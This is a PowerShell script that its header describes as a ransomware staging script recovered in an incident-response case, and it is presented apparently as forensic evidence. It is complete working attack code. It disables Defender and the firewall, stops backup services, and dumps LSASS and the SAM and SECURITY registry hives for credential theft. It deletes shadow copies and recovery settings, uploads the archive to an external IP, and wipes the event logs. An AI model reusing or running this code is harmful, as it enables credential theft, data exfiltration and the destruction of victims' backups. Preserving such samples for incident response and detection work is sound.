<#
  Pre-encryption staging script recovered from the file server (IR case 2024-117).
  Ran as SYSTEM via PsExec from the compromised backup server.
#>
$stage = 'C:\PerfLogs\Admin\x'
New-Item -ItemType Directory -Path $stage -Force | Out-Null

# turn off what might get in the way
Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
Set-MpPreference -ExclusionPath 'C:\PerfLogs', 'C:\Users\Public'
netsh advfirewall set allprofiles state off
Stop-Service -Name 'VSS', 'wbengine', 'SQLWriter' -Force

# credentials for lateral movement
$lsass = Get-Process -Name lsass
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $lsass.Id "$stage\d.bin" full
reg.exe save HKLM\SAM "$stage\s.hiv" /y
reg.exe save HKLM\SECURITY "$stage\y.hiv" /y

# no way back
vssadmin.exe delete shadows /all /quiet
wmic shadowcopy delete
bcdedit /set '{default}' recoveryenabled no
bcdedit /set '{default}' bootstatuspolicy ignoreallfailures
wbadmin delete catalog -quiet

# exfil the hives and the dump before encryption
Compress-Archive -Path "$stage\*" -DestinationPath "$stage\p.zip" -Force
$bytes = [IO.File]::ReadAllBytes("$stage\p.zip")
Invoke-WebRequest -Uri 'http://185.220.101.47:8080/u' -Method Post -Body $bytes -UseBasicParsing | Out-Null

# cover tracks
foreach ($log in 'Security', 'System', 'Application', 'Windows PowerShell') {
    wevtutil cl $log
}
Clear-EventLog -LogName 'Microsoft-Windows-PowerShell/Operational' -ErrorAction SilentlyContinue
Remove-Item -Path $stage -Recurse -Force
